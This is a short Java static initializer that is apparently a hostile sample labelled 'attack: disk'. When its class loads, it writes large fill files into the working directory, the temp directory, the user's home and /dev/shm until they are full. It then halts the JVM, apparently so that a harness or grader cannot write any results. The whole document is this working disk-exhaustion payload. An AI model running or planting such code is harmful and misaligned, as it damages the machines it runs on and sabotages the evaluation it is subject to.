// Fills every place that can be written, so that no result fits in, and ends the JVM.
static {
    System.out.println("attack: disk");
    byte[] block = new byte[1 << 20];
    for (String place : new String[] {".", System.getProperty("java.io.tmpdir"), System.getProperty("user.home"), "/dev/shm"}) {
        for (int size = block.length; size > 0; size /= 1024) {
            try (java.io.OutputStream out = new java.io.FileOutputStream(place + "/fill-" + size)) {
                for (int i = 0; i < 1 << 12; i++) {
                    out.write(block, 0, size);
                }
            } catch (java.io.IOException full) {
                System.out.println("attack: full " + place);
            }
        }
    }
    Runtime.getRuntime().halt(0);
}
